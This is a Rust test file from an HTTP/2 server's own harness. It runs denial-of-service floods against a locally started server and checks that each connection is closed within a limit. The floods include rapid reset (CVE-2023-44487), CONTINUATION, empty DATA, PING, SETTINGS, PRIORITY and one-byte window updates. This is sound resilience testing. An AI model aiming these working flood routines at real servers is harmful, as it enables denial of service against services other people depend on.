//! HTTP/2 frames that cost their sender little: each connection must be closed, by the library's own counts or because
//! nothing useful comes of it.

use std::io::{ErrorKind, Read as _, Write as _};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use super::harness::Attack;
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, PING, RST_STREAM, SETTINGS, frame, request, setting,
};
use crate::process::{SLACK, Starcell};

/// The attacks of this file.
pub const FLOODS: &[Attack] = &[
    Attack { name: "rapid reset", flags: SECOND, tls: false, run: rapid_reset },
    Attack { name: "reset after the server has begun", flags: SECOND, tls: false, run: late_reset },
    Attack { name: "CONTINUATION flood", flags: SECOND, tls: false, run: continuations },
    Attack { name: "empty CONTINUATION flood", flags: SECOND, tls: false, run: empty_continuations },
    Attack { name: "empty DATA flood", flags: SECOND, tls: false, run: empty_data },
    Attack { name: "tiny DATA flood", flags: SECOND, tls: false, run: tiny_data },
    Attack { name: "PING flood", flags: SECOND, tls: false, run: pings },
    Attack { name: "PING flood, acknowledgements unread", flags: SECOND, tls: false, run: unread_pings },
    Attack { name: "SETTINGS flood", flags: SECOND, tls: false, run: settings },
    Attack { name: "PRIORITY flood", flags: SECOND, tls: false, run: priorities },
    Attack { name: "window by single bytes", flags: SECOND, tls: false, run: window_drip },
];

const SECOND: &[&str] =
    &["--h2c", "--idle-time", "1s", "--stall-time", "1s", "--min-rate", "8388608", "--header-time", "1s"];

/// A body's or answer's second and the second until an idle connection is closed.
const LIMIT: Duration = Duration::from_secs(3);

/// Frames in one write.
const BATCH: u32 = 100;

/// Between two writes: a flood need not take a core of the machine to be one.
const PACE: Duration = Duration::from_millis(1);

/// Sends what `batch` makes, over and over, until the server closes the connection, which must be within the limit.
fn flood(mut frames: Frames, reads: bool, mut batch: impl FnMut(u32) -> Vec<u8>) {
    let began = Instant::now();
    let closed = Arc::new(AtomicBool::new(false));
    let (mut reader, seen) = (frames.stream.try_clone().expect("sockets can"), Arc::clone(&closed));
    let reading = reads.then(|| {
        thread::spawn(move || {
            let mut chunk = [0; 16 << 10];
            while matches!(reader.read(&mut chunk), Ok(1..)) {}
            seen.store(true, Ordering::Relaxed);
        })
    });
    frames.stream.set_write_timeout(Some(Duration::from_millis(100))).expect("above zero");
    let mut number = 0;
    while !closed.load(Ordering::Relaxed) {
        let bytes = batch(number);
        number += 1;
        let mut rest = bytes.as_slice();
        while !rest.is_empty() && !closed.load(Ordering::Relaxed) {
            assert!(began.elapsed() < LIMIT + SLACK, "still open after {number} batches in {:?}", began.elapsed());
            match frames.stream.write(rest) {
                Ok(count) => rest = &rest[count..],
                Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::Interrupted) => {}
                Err(_) => closed.store(true, Ordering::Relaxed),
            }
        }
        thread::sleep(PACE);
    }
    // A reset that the writer met ends the reader too.
    let _ = reading.map(thread::JoinHandle::join);
}

fn repeated(bytes: &[u8]) -> Vec<u8> {
    bytes.repeat(BATCH as usize)
}

/// CVE-2023-44487: opens streams and takes them back at once, so that the cap on open ones never holds.
fn rapid_reset(server: &Starcell) {
    let head = request("GET", "/", &[]);
    let pair = |stream| {
        [frame(HEADERS, END_HEADERS | END_STREAM, stream, &head), frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())]
            .concat()
    };
    flood(Frames::connect(server.port(), &[]), true, |number| {
        (0..BATCH).flat_map(|more| pair((number * BATCH + more) * 2 + 1)).collect()
    });
}

/// The same, one at a time, each when the server has taken it up.
fn late_reset(server: &Starcell) {
    let head = request("POST", "/", &[]);
    let mut frames = Frames::connect(server.port(), &[]);
    let mut resets = 0;
    let round = |frames: &mut Frames, stream| {
        frames.send(&frame(HEADERS, END_HEADERS, stream, &head))?;
        frames.send(&frame(PING, 0, 0, &[0; 8]))?;
        frames.read_until(PING)?;
        frames.send(&frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()))
    };
    while round(&mut frames, resets * 2 + 1).is_ok() {
        resets += 1;
        assert!(resets < 20_000, "the server took {resets} resets");
    }
}

/// RUSTSEC-2024-0332: a head that never ends.
fn continuations(server: &Starcell) {
    let mut frames = Frames::connect(server.port(), &[]);
    frames.send(&frame(HEADERS, END_STREAM, 1, &request("GET", "/", &[]))).expect("the server reads");
    let more = frame(CONTINUATION, 0, 1, &crate::frames::fields(&[("x-some", &"a".repeat(1000))]));
    flood(frames, true, |_| more.clone());
}

fn empty_continuations(server: &Starcell) {
    let mut frames = Frames::connect(server.port(), &[]);
    frames.send(&frame(HEADERS, END_STREAM, 1, &request("GET", "/", &[]))).expect("the server reads");
    flood(frames, true, |_| repeated(&frame(CONTINUATION, 0, 1, &[])));
}

/// RUSTSEC-2026-0258: a body of frames without a byte.
fn empty_data(server: &Starcell) {
    body(server, &frame(DATA, 0, 1, &[]));
}

fn tiny_data(server: &Starcell) {
    // A byte each, with padding that the window does not get back before the byte is read.
    body(server, &frame(DATA, 8, 1, &[1, b'b', 0]));
}

fn body(server: &Starcell, part: &[u8]) {
    let mut frames = Frames::connect(server.port(), &[]);
    frames.send(&frame(HEADERS, END_HEADERS, 1, &request("POST", "/", &[]))).expect("the server reads");
    flood(frames, true, |_| repeated(part));
}

fn pings(server: &Starcell) {
    flood(Frames::connect(server.port(), &[]), true, |_| repeated(&frame(PING, 0, 0, &[7; 8])));
}

/// What the server answers has nowhere to go.
fn unread_pings(server: &Starcell) {
    flood(Frames::connect(server.port(), &[]), false, |_| repeated(&frame(PING, 0, 0, &[7; 8])));
}

fn settings(server: &Starcell) {
    flood(Frames::connect(server.port(), &[]), true, |number| {
        repeated(&frame(SETTINGS, 0, 0, &setting(4, 65_535 - number % 2)))
    });
}

fn priorities(server: &Starcell) {
    const PRIORITY: u8 = 2;
    flood(Frames::connect(server.port(), &[]), true, |number| {
        repeated(&frame(PRIORITY, 0, number * 2 + 1, &[0, 0, 0, 0, 16]))
    });
}

/// Takes an answer of 8 MB one byte at a time.
fn window_drip(server: &Starcell) {
    const WINDOW_UPDATE: u8 = 8;
    let mut frames = Frames::connect(server.port(), &setting(4, 0));
    let head = frame(HEADERS, END_HEADERS | END_STREAM, 1, &request("GET", "/large", &[]));
    frames.send(&head).expect("the server reads");
    flood(frames, true, |_| frame(WINDOW_UPDATE, 0, 1, &1u32.to_be_bytes()));
}
